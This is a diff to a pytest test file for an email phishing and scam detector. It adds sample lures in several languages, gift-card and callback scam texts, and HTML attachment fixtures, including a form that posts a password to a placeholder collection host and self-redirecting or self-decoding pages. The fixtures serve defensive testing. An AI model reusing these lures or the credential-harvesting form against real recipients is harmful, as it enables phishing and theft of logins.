@@ -34,6 +34,9 @@ CASES: dict[str, dict[str, object]] = {
     "URL_SCRIPT_SCHEME": {"html": '<a href="javascript:alert(1)">open</a>'},
     "CREDENTIAL_LURE": {"text": "Your password expires today. Contact IT.", "subject": "IT notice"},
     "CREDENTIAL_LURE_LINK": {"text": "Unusual sign-in activity detected. Review at https://acct.example.net/review"},
+    "CREDENTIAL_LURE_FREE_HOSTING": {
+        "text": "Your mailbox is full. Upgrade your mailbox quota: https://forms.office.com/Pages/ResponsePage.aspx?id=x"
+    },
     "URGENCY_PHRASES": {"text": "Respond within 24 hours or lose access."},
     "MONEY_FRAUD_PHRASES": {"text": "You are the beneficiary of 10 million US dollars from my late client."},
     "CRYPTO_EXTORTION": {
@@ -54,6 +57,18 @@ CASES: dict[str, dict[str, object]] = {
         "This is not a bill."
     },
     "ADULT_SPAM": {"text": "Want to watch HARDCORE PORN MOVIES? Our live sex cams are voted #1. Click now."},
+    "BEC_REQUEST": {"text": "Are you available? I need you to buy some gift cards for a client today."},
+    "BEC_REQUEST_STRONG": {
+        "text": "Are you available? I need you to handle a task for me discreetly. "
+        "I'm in a meeting and can't take calls, so reply here."
+    },
+    "CALLBACK_SCAM": {
+        "text": "Your subscription has been renewed for $399.99. If you did not authorise this, "
+        "call our billing helpline at +1 (555) 010-2211."
+    },
+    "INVESTMENT_SCAM": {"text": "Our AI trading bot pays 3% daily. Guaranteed returns from the first week."},
+    "MESSENGER_JOB_OFFER": {"text": "Earn $300 per day from home. Contact us on WhatsApp: +44 7700 900123."},
+    "CASINO_SPAM": {"text": "Claim 100 free spins and a 200% welcome bonus at our online casino."},
     "BRAND_IMPERSONATION": {"from_": "Microsoft 365 Support <alerts@mail-notify.example.net>"},
     "BRAND_LOOKALIKE_DOMAIN": {"text": "Sign in: https://paypal-resolution-center.example.net/"},
     "BRAND_LURE_FOREIGN_LINK": {
@@ -66,6 +81,12 @@ CASES: dict[str, dict[str, object]] = {
     },
     "ATTACHMENT_SHORTCUT": {"attachments": (("Invoice_0425.url", "application/octet-stream", b"[InternetShortcut]"),)},
     "HTML_ATTACHMENT": {"attachments": (("Remittance.html", "text/html", b"<script>location='x'</script>"),)},
+    "HTML_ATTACHMENT_ACTIVE": {
+        "attachments": (
+            ("Remittance.htm", "text/html",
+             b'<form action="https://collect.example.net/p"><input type="password" name="pw"></form>'),
+        ),
+    },
     "ATTACHMENT_DOUBLE_EXT": {"attachments": (("invoice.pdf.exe", "application/octet-stream", b"MZ"),)},
     "SUBJECT_ALL_CAPS": {"subject": "URGENT PAYMENT NEEDED TODAY"},
     "SUBJECT_EXCLAIM": {"subject": "You won!!"},
@@ -277,3 +298,101 @@ def test_legal_advertising_labels_are_recognised(subject: str) -> None:
 )
 def test_words_starting_with_adv_are_no_advertising_label(subject: str) -> None:
     assert "SUBJECT_AD_LABEL" not in {h.name for h in evaluate(view(subject=subject))}
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        b"<html><body><script>window.location.href='https://login.example.net/?e=bob'</script></body></html>",
+        b'<meta http-equiv="refresh" content="0; url=https://login.example.net/">',
+        b"<script>document.write(atob('PGgxPkxvZ2luPC9oMT4='))</script>",
+    ],
+)
+def test_attached_page_that_redirects_or_decodes_itself_is_active(page: bytes) -> None:
+    names = {h.name for h in evaluate(view(attachments=(("Invoice_8832.html", "text/html", page),)))}
+    assert {"HTML_ATTACHMENT", "HTML_ATTACHMENT_ACTIVE"} <= names
+
+
+def test_attached_static_html_report_is_not_active() -> None:
+    page = b"<html><body><h1>Build report</h1><table><tr><td>tests</td><td>412 passed</td></tr></table></body></html>"
+    names = {h.name for h in evaluate(view(attachments=(("report.html", "text/html", page),)))}
+    assert "HTML_ATTACHMENT_ACTIVE" not in names
+
+
+def test_links_inside_an_attached_page_are_link_destinations() -> None:
+    page = b'<form action="https://shared-docs-4411.web.app/post"><input name="email"></form>'
+    names = {h.name for h in evaluate(view(attachments=(("Remittance.htm", "text/html", page),)))}
+    assert "URL_FREE_HOSTING" in names
+
+
+def test_a_redirecting_link_is_judged_by_where_it_leads() -> None:
+    text = "Review: https://www.google.com/url?q=https%3A%2F%2Fmailbox-review.pages.dev%2Fqr&sa=D"
+    names = {h.name for h in evaluate(view(text=text))}
+    assert {"URL_REDIRECTOR", "URL_FREE_HOSTING"} <= names
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Aus Sicherheitsgründen wird Ihr Online-Banking-Zugang vorübergehend gesperrt.",
+        "Bitte bestätigen Sie Ihre Identität, um fortzufahren.",
+        "Votre compte a été temporairement suspendu. Vérifiez votre identité.",
+        "Su cuenta ha sido bloqueada. Verifique su identidad en el siguiente enlace.",
+        "Detectamos atividade de entrada incomum. Confirme sua identidade.",
+        "Uw betaalpas verloopt binnenkort; controleer uw gegevens.",
+        "Il tuo account è stato sospeso: verifica i tuoi dati.",
+        "You have (5) held messages. Release messages to Inbox.",
+        "You received a 3-page fax. Click here to view this fax.",
+        "A redelivery fee of $1.85 is due. Schedule redelivery today.",
+        "Your mailbox has reached 99.8% of its storage limit.",
+    ],
+)
+def test_credential_lures_in_other_wordings_and_languages(text: str) -> None:
+    assert "CREDENTIAL_LURE" in {h.name for h in evaluate(view(text=text))}
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "Bitte bestätigen Sie den Termin am Montag um 10 Uhr.",
+        "Merci de confirmer votre présence à la réunion de jeudi.",
+        "Adjunto el informe trimestral; confirme su asistencia al comité.",
+        "Kunt u de offerte controleren en vóór vrijdag terugsturen?",
+        "The held messages were released after the quarantine rule was fixed (see the mailing list thread).",
+        "Fax numbers changed: the new fax is +49 30 1234567.",
+    ],
+)
+def test_ordinary_mail_in_those_words_is_no_lure(text: str) -> None:
+    assert "CREDENTIAL_LURE" not in {h.name for h in evaluate(view(text=text))}
+
+
+def test_a_brand_after_via_from_a_foreign_domain_is_impersonation() -> None:
+    names = {h.name for h in evaluate(view(from_="Thandi Mokoena via SharePoint <info@smile-dental.example>"))}
+    assert "BRAND_IMPERSONATION" in names
+
+
+@pytest.mark.parametrize(
+    "from_",
+    [
+        "Alice Example via python-dev <python-dev@googlegroups.com>",
+        "Bob via SharePoint <no-reply@sharepointonline.com>",
+    ],
+)
+def test_list_and_real_service_via_names_are_not_impersonation(from_: str) -> None:
+    assert "BRAND_IMPERSONATION" not in {h.name for h in evaluate(view(from_=from_))}
+
+
+@pytest.mark.parametrize(
+    ("text", "rule_name"),
+    [
+        ("Are you available to review the patch before the freeze?", "BEC_REQUEST"),
+        ("The board approved the budget; the wire transfer to the venue went out on Monday.", "BEC_REQUEST"),
+        ("Your subscription has been renewed. Manage it at https://account.example.com/billing", "CALLBACK_SCAM"),
+        ("Call me on +49 30 1234 5678 if the build breaks again.", "CALLBACK_SCAM"),
+        ("The presale of conference tickets opens on Friday.", "INVESTMENT_SCAM"),
+        ("Release announcements are also posted in our Telegram channel: t.me/example_releases", "MESSENGER_JOB_OFFER"),
+        ("We won the jackpot: the sponsor covers the whole sprint.", "CASINO_SPAM"),
+    ],
+)
+def test_one_scam_move_in_ordinary_mail_fires_no_scam_rule(text: str, rule_name: str) -> None:
+    assert rule_name not in {h.name for h in evaluate(view(text=text))}
